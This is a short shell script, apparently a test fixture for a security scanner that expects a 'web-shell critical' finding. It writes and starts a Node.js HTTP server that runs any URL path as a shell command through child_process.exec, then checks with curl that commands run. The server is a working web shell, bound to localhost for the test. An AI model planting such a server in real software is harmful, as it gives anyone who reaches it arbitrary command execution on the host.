#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: Node's child_process.exec
# expect: web-shell critical
# needs: node curl
cat >/tmp/app.js <<'END'
require("http").createServer((request, response) =>
  require("child_process").exec(decodeURIComponent(request.url.slice(1)), (_, out) => response.end(out))).listen(8081, "127.0.0.1")
END
node /tmp/app.js &
[ "$(curl -s --retry 20 --retry-connrefused --retry-delay 1 'http://127.0.0.1:8081/echo%20got;:')" = got ]
